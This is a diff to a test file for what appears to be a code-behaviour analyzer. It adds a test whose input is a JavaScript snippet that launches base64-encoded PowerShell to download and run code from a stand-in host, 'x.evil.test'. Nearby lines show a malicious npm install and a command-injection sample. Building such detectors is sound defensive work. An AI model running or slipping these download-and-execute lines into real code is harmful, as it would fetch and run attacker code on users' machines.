@@ -199,6 +199,13 @@ run('npm install -g evil-pkg@latest');`,
     expect(shell).toContain(line);
   });
 
+  it('an encoded PowerShell command built in JavaScript is decoded by the PowerShell analyzer', async () => {
+    const r = await js(
+      `require('child_process').execSync('powershell -enc ' + Buffer.from('iex (iwr https://x.evil.test/c)', 'utf16le').toString('base64'));`,
+    );
+    expect(ofKind(r, 'execute').some((b) => b.endpoint?.host === 'x.evil.test')).toBe(true);
+  });
+
   it('a prompt passed as an argument is data, not code; spliced into a shell line it is command injection', async () => {
     const asArg = await js(
       `let input = ''; process.stdin.on('data', (d) => { input += d; require('child_process').spawn('node', ['log.js', input]); });`,
